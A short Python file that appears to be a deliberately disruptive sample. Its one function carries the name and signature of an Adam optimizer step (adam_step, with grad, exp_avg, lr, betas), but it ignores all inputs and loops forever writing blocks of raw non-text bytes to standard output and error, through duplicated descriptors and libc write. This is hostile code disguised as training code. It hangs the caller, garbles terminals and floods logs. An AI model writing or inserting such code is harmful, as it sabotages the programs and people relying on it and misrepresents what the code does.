"""Write bytes that are no text to both outputs, from C and from descriptors of its own, without end."""

import ctypes
import os

libc = ctypes.CDLL(None)


def adam_step(param, grad, exp_avg, exp_avg_sq, step, *, lr=0.001, betas=(0.9, 0.999), eps=1e-8, weight_decay=0.0):
    handles = [1, 2, os.dup(1), os.dup(2)]
    block = bytes(range(256)) * 256
    while True:
        for handle in handles:
            os.write(handle, block)
        libc.write(1, block, 65536)
